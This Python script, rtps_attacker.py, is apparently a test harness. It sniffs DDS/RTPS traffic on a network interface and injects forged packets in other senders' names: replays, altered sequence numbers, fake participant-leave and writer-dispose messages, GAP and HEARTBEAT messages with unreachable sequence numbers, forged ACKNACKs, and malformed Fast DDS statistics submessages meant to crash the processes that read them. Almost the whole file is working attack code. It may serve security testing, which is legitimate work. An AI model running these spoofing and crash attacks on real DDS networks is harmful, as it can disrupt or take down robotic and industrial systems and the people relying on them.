"""Somebody on the network of a run, without its key: rtps_attacker.py INTERFACE SECONDS ATTACK...

Until its standard input ends, SECONDS at most, it overhears all datagrams of an interface, and answers each a few times, as often and as long as the limits below allow, in the name of its
sender:
  repeat    the same bytes again
  change    other bytes in its message, under numbers of messages that are still to come
  part      the word that its process leaves the bus
  gap       the word that its next messages, a thousand million million of them, mean nothing to the reader
  ahead     the word that it keeps nothing before its message of a number that it never reaches
  read      the word of the reader that it has got all that is still to come
  break     statistics of Fast DDS where it expects none, which end a process that reads them
  dispose   the word that its writers are gone: of the one that tells of writers, and of a participant of our own
  noise     bytes of no meaning to where it went
Prints as JSON what it overheard and sent, and which of the words in the environment variable SECRETS it read. Standard library alone."""
import collections
import json
import os
import random
import select
import socket
import struct
import sys
import time

MOST_SENT = 20_000
MOST_OF_A_WRITER = 40  # changed messages, and forged words about its numbers
FAR = 10**15  # a number that no writer reaches
IP_HEADER = 14  # behind that of Ethernet
DATA, DATA_FRAG, INFO_DST, INFO_SRC, ACKNACK, HEARTBEAT, GAP, STATISTICS = 0x15, 0x16, 0x0E, 0x0C, 0x06, 0x07, 0x08, 0x80
PARTICIPANT, PARTICIPANT_WRITER, PARTICIPANT_READER = b"\0\0\x01\xc1", b"\0\x01\0\xc2", b"\0\x01\0\xc7"
WRITERS_WRITER, WRITERS_READER = b"\0\0\x03\xc2", b"\0\0\x03\xc7"  # that tell which writers there are
ANYBODY = b"\0\0\0\0"
OWN_PREFIX = b"\x01\x0fattacker\0\0"


def datagram_of(frame):
    """Address, port and payload of an Ethernet frame that carries a whole UDP datagram of RTPS."""
    if len(frame) < 42 or frame[12:14] != b"\x08\x00" or frame[23] != socket.IPPROTO_UDP:
        return None
    start = IP_HEADER + 4 * (frame[IP_HEADER] & 15)
    port, length = struct.unpack("!HH", frame[start + 2:start + 6])
    payload = frame[start + 8:start + length]
    return (socket.inet_ntoa(frame[30:34]), port, payload) if payload[:4] == b"RTPS" else None


def messages_in(payload):
    """Offset, kind and length of each submessage."""
    at = 20
    while at + 4 <= len(payload):
        little = payload[at + 1] & 1
        length = struct.unpack("<H" if little else ">H", payload[at + 2:at + 4])[0] or len(payload) - at - 4
        yield at, payload[at], length
        at += 4 + length


def number(value):
    """A sequence number."""
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


def submessage(kind, flags, body):
    return struct.pack("<BBH", kind, flags | 1, len(body)) + body


def disposed(reader, writer, sequence_number, guid):
    """A message that what has that GUID is gone."""
    quality = struct.pack("<HH", 0x70, 16) + guid + struct.pack("<HH", 0x71, 4) + b"\0\0\0\x03" + struct.pack("<HH", 1, 0)
    return submessage(DATA, 2, struct.pack("<HH", 0, 16) + reader + writer + number(sequence_number) + quality)


def is_of_user(payload, at):
    """Whether the writer of a message is one of the program, not one of DDS itself."""
    return payload[at + 15] in (0x02, 0x03)


class Attacker:
    def __init__(self, interface, attacks):
        self.attacks = attacks
        self.ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.ear.bind((interface, 0))
        self.ear.settimeout(0.1)
        self.mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.random = random.Random(1)
        self.own = collections.deque(maxlen=5000)  # what we said comes back to our ear
        self.heard = collections.Counter()
        self.sent = collections.Counter()
        self.changed = collections.Counter()
        self.parted = {}
        self.writers = set()
        self.told = collections.Counter()  # the last number of those who tell of writers
        self.number = 100_000
        self.secrets = [word.encode() for word in os.environ.get("SECRETS", "").split(",") if word]
        self.read = set()

    def say(self, attack, payload, to):
        if sum(self.sent.values()) >= MOST_SENT:
            return
        self.own.append(payload)
        try:
            self.mouth.sendto(payload, to)
            self.sent[attack] += 1
        except OSError:
            pass

    def hear(self, payload, to):
        self.heard["datagrams"] += 1
        self.read |= {word.decode() for word in self.secrets if word in payload}
        if "repeat" in self.attacks:
            self.say("repeat", payload, to)
        if "noise" in self.attacks and self.heard["datagrams"] % 20 == 0:
            self.say("noise", self.random.randbytes(self.random.randrange(1, 1400)), to)
            self.say("noise", payload[:20] + self.random.randbytes(self.random.randrange(4, 1400)), to)
        if "part" in self.attacks:
            self.part(payload, to)
        if "change" in self.attacks:
            self.change(payload, to)
        if {"gap", "ahead", "dispose"} & set(self.attacks):
            self.mislead(payload, to)
        if "break" in self.attacks and self.heard["datagrams"] % 20 == 0:
            self.say("break", payload[:8] + OWN_PREFIX + submessage(STATISTICS, 0, bytes(56)) * 2, to)
        if "read" in self.attacks:
            self.read_all(payload, to)
        if "dispose" in self.attacks:
            self.dispose(payload, to)

    def change(self, payload, to):
        for at, kind, length in messages_in(payload):
            if kind not in (DATA, DATA_FRAG) or not is_of_user(payload, at) or length < 60:
                continue
            self.heard["messages"] += 1
            writer = payload[8:20] + payload[at + 12:at + 16]
            if self.changed[writer] >= MOST_OF_A_WRITER:
                continue
            self.changed[writer] += 1
            forged = bytearray(payload)
            sequence_number = struct.unpack("<I", forged[at + 20:at + 24])[0]
            forged[at + 20:at + 24] = struct.pack("<I", sequence_number + self.random.randrange(1, 4))
            forged[at + 4 + length - 1 - self.random.randrange(16)] ^= 0x55
            self.say("change", bytes(forged), to)

    def part(self, payload, to):
        prefix = payload[8:20]
        now = time.monotonic()
        if now - self.parted.get((prefix, to), 0) < 1:
            return
        self.parted[prefix, to] = now
        self.number += 1
        self.say("part", payload[:20] + disposed(PARTICIPANT_READER, PARTICIPANT_WRITER, self.number, prefix + PARTICIPANT), to)

    def mislead(self, payload, to):
        """Forged words about the numbers of the writers in a datagram."""
        for at, kind, _ in messages_in(payload):
            if kind not in (DATA, DATA_FRAG) or not is_of_user(payload, at):
                continue
            self.heard["messages"] += 1
            writer = payload[at + 12:at + 16]
            self.writers.add(payload[8:20] + writer)
            if self.changed[payload[8:20] + writer] >= MOST_OF_A_WRITER:
                continue
            self.changed[payload[8:20] + writer] += 1
            next_one = struct.unpack("<I", payload[at + 20:at + 24])[0] + 1
            # In its name as the sender, and as a process that a sender of our own speaks for.
            heads = payload[:20], payload[:8] + OWN_PREFIX + submessage(INFO_SRC, 0, bytes(4) + payload[4:20])
            for head in heads:
                if "gap" in self.attacks:
                    self.say("gap", head + submessage(GAP, 0, ANYBODY + writer + number(next_one) + number(FAR) + bytes(4)), to)
                if "ahead" in self.attacks:
                    self.say("ahead", head + submessage(HEARTBEAT, 2, ANYBODY + writer + number(FAR) + number(FAR) +
                                                        struct.pack("<I", 2**31 - 1)), to)

    def read_all(self, payload, to):
        for at, kind, length in messages_in(payload):
            if kind == ACKNACK and payload[at + 7] in (0x04, 0x07) and self.changed[payload[at + 4:at + 12]] < MOST_OF_A_WRITER:
                self.changed[payload[at + 4:at + 12]] += 1
                target = b"".join(payload[start:start + 4 + size] for start, other, size in messages_in(payload) if other == INFO_DST)
                self.say("read", payload[:20] + target + submessage(ACKNACK, 2, payload[at + 4:at + 12] + number(FAR) + bytes(4) +
                                                                    struct.pack("<I", 2**31 - 1)), to)

    def dispose(self, payload, to):
        prefix = payload[8:20]
        for at, kind, _ in messages_in(payload):
            if kind == DATA and payload[at + 12:at + 16] == WRITERS_WRITER:
                self.told[prefix] = max(self.told[prefix], struct.unpack("<I", payload[at + 20:at + 24])[0])
        now = time.monotonic()
        if now - self.parted.get((prefix, to, "dispose"), 0) < 0.5:
            return
        self.parted[prefix, to, "dispose"] = now
        self.number += 1
        own = payload[:8] + OWN_PREFIX
        self.say("dispose", own + disposed(PARTICIPANT_READER, PARTICIPANT_WRITER, self.number, prefix + PARTICIPANT), to)
        for writer in [writer for writer in self.writers if writer[:12] == prefix]:
            self.told[prefix] += 1
            self.say("dispose", payload[:20] + disposed(WRITERS_READER, WRITERS_WRITER, self.told[prefix], writer), to)

    def work(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end and not select.select([sys.stdin], [], [], 0)[0]:
            try:
                heard = datagram_of(self.ear.recv(65536))
            except TimeoutError:
                continue
            if heard and heard[2] not in self.own:
                self.hear(heard[2], heard[:2])


if __name__ == "__main__":
    attacker = Attacker(sys.argv[1], sys.argv[3:])
    print("listening", flush=True)
    attacker.work(float(sys.argv[2]))
    print(json.dumps({"heard": attacker.heard, "sent": attacker.sent, "read": sorted(attacker.read)}))
